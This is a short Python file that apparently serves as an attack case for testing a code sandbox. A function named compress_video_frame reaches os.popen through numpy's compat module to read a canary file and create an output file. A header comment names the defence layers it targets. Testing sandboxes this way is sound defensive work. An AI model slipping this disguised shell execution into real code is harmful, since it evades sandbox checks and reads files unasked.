# ATTACK: os.popen through the os module numpy holds (numpy.compat.py3k.os).
# Layers: static check (attribute `os`); audit hook (subprocess.Popen); bubblewrap.
import numpy as np


def compress_video_frame(frame, frame_index, config):
    return np.compat.py3k.os.popen("cat " + config["canaryFile"] + "; touch " + config["outPath"]).read().encode()


def decompress_video_frame(compressed_data, frame_index, config):
    return np.zeros((config["height"], config["width"], 3), np.uint8)
